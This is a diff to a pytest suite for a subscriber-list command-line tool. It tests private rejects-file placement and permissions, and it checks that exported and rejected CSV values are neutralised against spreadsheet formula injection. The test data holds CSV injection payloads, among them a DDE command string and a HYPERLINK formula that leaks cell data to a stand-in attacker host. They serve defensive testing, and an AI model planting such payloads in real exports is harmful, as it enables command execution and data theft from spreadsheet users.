@@ -91,12 +91,47 @@ def test_import_reports_every_reject_reason(run, workspace):
     for line, reason in expected.items():
         assert f"people.csv:{line}: {reason}" in result.stderr, (line, result.stderr)
     assert "Ignored columns: source" in result.stderr
-    with (workspace / "people.rejects.csv").open(encoding="utf-8") as handle:
+    rejects_file = workspace / "private" / "rejects" / "people.rejects.csv"
+    with rejects_file.open(encoding="utf-8") as handle:
         rejects = list(csv.DictReader(handle))
     assert [int(r["line"]) for r in rejects] == sorted(expected)
     assert rejects[0]["email"] == "no-at-sign"
-    assert stat.S_IMODE((workspace / "people.rejects.csv").stat().st_mode) == 0o600
     assert emails(run) == ["last@example.org", "ok@example.org"]
+
+
+def test_rejects_file_keeps_the_input_header_under_private(run, workspace, settings):
+    """The rejects CSV uses the input's own header and order, and lies owner-only under private/rejects/."""
+    path = write_csv(workspace / "issues" / "people.csv", (
+        "Name,Language,EMAIL,Source\n"
+        "Anna,en,not-an-address,web\n"
+        "Bob,en,bob@example.org,web\n"
+        "Cleo,xx,cleo@example.org,fair,surplus\n"))
+    result = run("subscribers", "import", str(path))
+    assert result.exit_code == 1
+    rejects_file = settings.private_dir / "rejects" / "people.rejects.csv"
+    assert "Rejected rows written to " in result.stdout and "private/rejects/people.rejects.csv" in result.stdout
+    assert not (workspace / "issues" / "people.rejects.csv").exists()
+    assert stat.S_IMODE(rejects_file.stat().st_mode) == 0o600
+    assert stat.S_IMODE(rejects_file.parent.stat().st_mode) == 0o700
+    with rejects_file.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0] == ["line", "reason", "Name", "Language", "EMAIL", "Source"]
+    assert rows[1][:2] == ["2", "invalid address: An email address must have an @-sign."]
+    assert rows[1][2:] == ["Anna", "en", "not-an-address", "web"]
+    assert rows[2][2:] == ["Cleo", "xx", "cleo@example.org", "fair", "surplus"]
+    assert emails(run) == ["bob@example.org"]
+
+
+def test_rejects_file_that_cannot_be_written(run, workspace, settings):
+    """When the rejects file cannot be written, nothing is imported and the message says so."""
+    settings.private_dir.mkdir(mode=0o700)
+    (settings.private_dir / "rejects").write_text("a file where the folder should be")
+    path = write_csv(workspace / "people.csv", "email,language\nok@example.org,en\nbad,en\n")
+    result = run("subscribers", "import", str(path))
+    assert result.exit_code == 1 and "Traceback" not in result.output
+    assert "cannot write the rejects file" in result.stderr and "nothing was imported" in result.stderr
+    assert "people.csv:3: invalid address" in result.stderr
+    assert emails(run) == []
 
 
 @pytest.mark.parametrize("encoding,newline,delimiter", [
@@ -147,6 +182,7 @@ def test_dry_run_changes_nothing(run, workspace):
     assert "Would import 2 rows: 1 added" in result.stdout
     assert emails(run) == []
     assert not (workspace / "in.rejects.csv").exists()
+    assert not (workspace / "private" / "rejects").exists()
 
 
 @pytest.mark.parametrize("status", ["unsubscribed", "bounced", "complained"])
@@ -272,3 +308,48 @@ def test_database_that_is_not_sqlite(run, settings):
     assert result.exit_code == 1
     assert "cannot open the subscriber database" in result.stderr
     assert settings.database_path.read_bytes() == b"this is not a database" * 100
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?leak="&A2,"click")', "+1+1", "-2+3",
+            "@SUM(A1:A9)", "\tindented", "\rreturn"]
+
+
+def test_export_neutralises_formulas(run, workspace):
+    """Names, tags and consent sources that a spreadsheet would run as formulas are exported as text ('…)."""
+    for number, formula in enumerate(FORMULAS):
+        result = run("subscribers", "add", f"reader{number}@example.org", "--language", "en", "--name", formula,
+                     "--consent", formula, "--tag", formula.strip() or "x")
+        assert result.exit_code == 0, result.output
+    out = workspace / "export.csv"
+    assert run("subscribers", "export", "--out", str(out)).exit_code == 0
+    with out.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["name"] for row in rows] == ["'" + formula for formula in FORMULAS]
+    assert [row["consent_source"] for row in rows] == ["'" + formula for formula in FORMULAS]
+    assert rows[0]["tags"] == "'" + FORMULAS[0]
+    stdout = run("subscribers", "export").stdout
+    assert "\n=" not in stdout and ",=" not in stdout and "'=cmd" in stdout
+
+
+def test_rejects_file_neutralises_formulas(run, workspace, settings):
+    """A rejected row's values are written to the rejects file as text, never as formulas."""
+    path = write_csv(workspace / "in.csv", "email,name,language\n"
+                     '=HYPERLINK("https://evil.example"),"=cmd|\' /C calc\'!A0",en\n'
+                     "ok@example.org,@SUM(A1),xx\n")
+    assert run("subscribers", "import", str(path)).exit_code == 1
+    with (settings.private_dir / "rejects" / "in.rejects.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(A1)" in cells
+
+
+@pytest.mark.parametrize("address", ["=1+1@example.org", "+1@example.org", "-2+3@example.org", "@x@example.org"])
+def test_formula_addresses_are_refused(run, workspace, address):
+    """An address beginning with a formula character is refused by add and by import."""
+    added = run("subscribers", "add", "--language", "en", "--", address)
+    assert added.exit_code == 1 and "is not a valid address" in added.stderr
+    path = write_csv(workspace / "in.csv", f"email,language\n{address},en\n")
+    imported = run("subscribers", "import", str(path))
+    assert imported.exit_code == 1 and "in.csv:2: invalid address" in imported.stderr
+    assert emails(run) == []
